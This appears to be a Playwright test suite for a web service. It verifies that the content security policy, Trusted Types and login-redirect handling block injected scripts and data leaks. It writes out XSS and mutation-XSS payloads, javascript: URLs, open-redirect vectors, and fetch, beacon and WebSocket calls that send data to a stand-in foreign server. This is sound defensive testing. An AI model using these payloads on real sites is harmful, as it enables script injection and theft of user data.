import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { renderMarkdown } from '@server/modules/content/render-markdown';
import { signInAs } from '@tests/support/browser/application-form';
import { openBrowser } from '@tests/support/browser/openBrowser';
import { MARKUP_ATTACKS, mixedAttacks } from '@tests/support/markup-attacks';
import { type BuiltService, startBuiltService } from '@tests/support/startBuiltService';
import { waitFor } from '@tests/support/wait-for';
import type { Page } from 'playwright-core';

let service: BuiltService;
let browser: Awaited<ReturnType<typeof openBrowser>>;
let page: Page;
/** Another site, which answers everything and counts who came. */
let foreign: Server;
let visits = 0;
let elsewhere: string;
beforeAll(async () => {
  foreign = createServer((_request, reply) => {
    visits += 1;
    reply.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript');
    reply.end('window.pwned = true');
  });
  await new Promise<void>((done) => foreign.listen(0, '127.0.0.1', done));
  elsewhere = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
  [service, browser] = await Promise.all([startBuiltService(), openBrowser()]);
  ({ page } = await browser.newPage());
  await page.goto(`${service.address}/notification`);
  await page.getByRole('heading', { level: 1 }).waitFor();
});
afterAll(async () => {
  await browser?.close();
  await service?.stop();
  foreign.close();
});

/** Scripts that an attacker could write once they control the page's own scripts. */
const ATTEMPTS: [what: string, script: string][] = [
  ['text as code', "eval('window.pwned = true')"],
  ['a function from text', "new Function('window.pwned = true')()"],
  ['a timer with text', "setTimeout('window.pwned = true')"],
  ['a script element with text', "add('script', { textContent: 'window.pwned = true' })"],
  ['a script from elsewhere', "add('script', { src: elsewhere + '/x.js' })"],
  [
    'a script from an uploaded file',
    "add('script', { src: '/api/attachments/00000000-0000-4000-8000-000000000000' })",
  ],
  ['a script in the address', "add('script', { src: 'data:text/javascript,window.pwned=true' })"],
  ['a script from a blob', "add('script', { src: URL.createObjectURL(new Blob(['window.pwned=true'])) })"],
  [
    'markup with an event',
    "document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=window.pwned=true>')",
  ],
  [
    'markup that changes when read again',
    "add('div', { innerHTML: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=true>' })",
  ],
  [
    'a style in foreign markup',
    "add('div', { innerHTML: '<svg></p><style><a id=\"</style><img src=1 onerror=window.pwned=true>\">' })",
  ],
  [
    'a link in markup',
    "add('div', { innerHTML: '<a href=\"java&#9;script:window.pwned=true\">x</a>' }).querySelector('a').click()",
  ],
  ['a whole document', "document.write('<script>window.pwned = true<\\/script>')"],
  [
    'a frame with a document of its own',
    "add('iframe', { srcdoc: '<script>parent.pwned = true<\\/script>' })",
  ],
  ['a frame from elsewhere', "add('iframe', { src: elsewhere })"],
  ['a frame with a script', "add('iframe', { src: 'javascript:parent.pwned=true' })"],
  ['a link with a script', "add('a', { href: 'javascript:window.pwned=true' }).click()"],
  ['an object', "add('object', { data: elsewhere })"],
  ['words to elsewhere', "await fetch(elsewhere + '/?words')"],
  ['a beacon to elsewhere', "navigator.sendBeacon(elsewhere, 'words')"],
  ['a socket to elsewhere', "new WebSocket(elsewhere.replace('http', 'ws'))"],
  ['a picture to elsewhere', "add('img', { src: elsewhere + '/?words' })"],
  ['a style from elsewhere', "add('link', { rel: 'stylesheet', href: elsewhere })"],
  ['a form to elsewhere', "add('form', { action: elsewhere }).submit()"],
  ['another base for every address', "add('base', { href: elsewhere }); await fetch('somewhere')"],
  ['a worker from text', "new Worker(URL.createObjectURL(new Blob(['1'])))"],
  [
    'rules of its own',
    "trustedTypes.createPolicy('default', { createHTML: (html) => html, createScript: (text) => text }); eval('window.pwned = true')",
  ],
];

/** Out of Playwright's own call, for which the browser lifts the policy. */
const attempt = (script: string): Promise<unknown> =>
  page.evaluate(`new Promise((done) => setTimeout(async () => {
    const elsewhere = ${JSON.stringify(elsewhere)};
    const add = (tag, fields) => {
      const element = Object.assign(document.createElement(tag), fields);
      document.body.append(element);
      return element;
    };
    try { ${script} } catch {}
    setTimeout(done, 100);
  }))`);

describe('a script that has come under a stranger’s hand [req:attack-a47 req:attack-a48]', () => {
  it.each(ATTEMPTS)('cannot use %s', async (_what, script) => {
    visits = 0;
    const before = page.url();

    await attempt(script);

    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(page.url()).toBe(before);
    expect(visits).toBe(0);
    expect(await page.evaluate(() => document.baseURI)).toBe(before);
  });

  it('is told of in the log, without what was said', async () => {
    await waitFor(() => service.output().includes('"directive":"img-src"'));

    expect(service.output()).toContain('"page":"/notification"');
    expect(service.output()).not.toMatch(/words|pwned/);
  });

  it('cannot write anything else, whatever the rest of the policy would have made of it', async () => {
    const refusals = await page.evaluate(() =>
      [
        '<form></form>',
        '<svg></svg>',
        '<p onclick="x">',
        '<p ping="x">',
        '<style></style>',
        '<a href="x:y">',
      ].map((html) => {
        try {
          document.createElement('div').innerHTML = html;
          return 'written';
        } catch (error) {
          return (error as Error).name;
        }
      }),
    );

    expect(refusals).toEqual(Array(6).fill('TypeError'));
  });

  it('may write whatever the service makes of an author’s words, which says the same when read again [req:attack-a43]', async () => {
    const rendered = [...MARKUP_ATTACKS, ...mixedAttacks(400)].map((text) => renderMarkdown(text).html);

    const unlike = await page.evaluate((texts) => {
      const place = document.createElement('div');
      return texts.filter((text) => {
        place.innerHTML = text;
        const once = place.innerHTML;
        place.innerHTML = once;
        return (
          place.innerHTML !== once ||
          place.querySelector('script, svg, math, style, iframe, [onerror], [onload]')
        );
      });
    }, rendered);

    expect(unlike).toEqual([]);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  });

  it('may still write what the texts of the office are made of', async () => {
    const written = await page.evaluate(() => {
      const place = document.createElement('div');
      place.innerHTML = '<h2 id="s1">甲</h2><p style="color: red">乙 <a href="/faq">丙</a></p>';
      return place.children.length;
    });

    expect(written).toBe(2);
  });
});

describe('the way back after signing in [req:attack-a45]', () => {
  it.each([
    '//ELSEWHERE',
    '/\\ELSEWHERE',
    '\\\\ELSEWHERE',
    'http://ELSEWHERE/',
    '/\t/ELSEWHERE',
    'javascript:window.pwned=true',
    '/user/..//ELSEWHERE',
  ])('does not lead to %j', async (vector) => {
    const { page: visitor } = await browser.newPage();
    visits = 0;
    const from = vector.replace('ELSEWHERE', new URL(elsewhere).host);
    await visitor.goto(`${service.address}/login?from=${encodeURIComponent(from)}`);

    await signInAs(visitor, 'shenzhiyao');
    await visitor.getByRole('heading', { level: 1 }).waitFor();

    expect(new URL(visitor.url()).origin).toBe(service.address);
    expect(await visitor.evaluate(() => 'pwned' in window)).toBe(false);
    expect(visits).toBe(0);
    await visitor.context().close();
  });
});
